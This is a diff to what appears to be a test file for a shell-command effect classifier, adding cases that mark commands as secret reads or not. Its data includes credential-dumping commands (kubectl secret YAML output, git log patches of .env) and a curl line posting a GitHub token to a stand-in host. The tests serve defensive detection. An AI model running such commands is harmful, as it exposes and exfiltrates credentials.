@@ -176,4 +176,29 @@ describe("effectsOf", () => {
       expect(kinds(line)).toEqual(expected);
     });
   });
+  describe("a credential captured into a variable named as a secret is kept, not printed; any other use still reads it", () => {
+    it.each([
+      ["export GITHUB_TOKEN=$(gh auth token)", []],
+      ["GITHUB_TOKEN=$(gh auth token) gh release list", []],
+      ["export DB_PASSWORD=$(op read op://prod/db/password)", []],
+      ["X=$(gh auth token)", ["secret-read"]],
+      ["export GH_TOKEN=$(gh auth token); echo $GH_TOKEN", ["secret-read"]],
+      ["export NPM_TOKEN=$(gh auth token | tee /tmp/t)", ["secret-read"]],
+      ["curl -d \"token=$(gh auth token)\" https://x.example", ["secret-read"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("kubectl -o name prints names only; git log prints what a file held only with a patch", () => {
+    it.each([
+      ["kubectl get secret db -o name", []],
+      ["kubectl get secret db -o yaml", ["secret-read"]],
+      ["kubectl get secrets -oyaml", ["secret-read"]],
+      ["git log --all --oneline -- .env", []],
+      ["git log -p -- .env", ["secret-read .env"]],
+      ["git log -U3 .env", ["secret-read .env"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
 });
